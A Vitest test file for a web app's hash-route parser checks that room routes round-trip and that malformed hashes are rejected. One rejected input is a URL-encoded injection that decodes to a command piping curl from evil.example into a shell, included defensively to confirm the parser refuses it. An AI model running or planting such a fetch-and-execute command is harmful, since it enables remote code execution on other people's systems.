import { describe, expect, test } from 'vitest';
import { formatRoute, parseRoute } from '../src/app/route';

describe('addresses', () => {
  test.each([{ room: 'kitchen' }, { room: 'team/kitchen:1#a@b+c', sequence: 42 }, { room: '...' }])('of %j', (route) => {
    expect(parseRoute(formatRoute(route))).toEqual(route);
  });

  test.each(["#/rooms/x%27%3B%20curl%20evil.example%7Csh%3B%20%27", '#/rooms/two%20words', '#/rooms/..', '#/rooms/%E0%A4%A', '#/rooms/', '#/x/y', ''])(
    'that name no room: "%s"',
    (hash) => expect(parseRoute(hash)).toEqual({}),
  );

  test.each(['#/rooms/kitchen/0', '#/rooms/kitchen/-1', '#/rooms/kitchen/x', '#/rooms/kitchen/99999999999999999'])(
    'that name no message: "%s"',
    (hash) => expect(parseRoute(hash)).toEqual({ room: 'kitchen' }),
  );
});
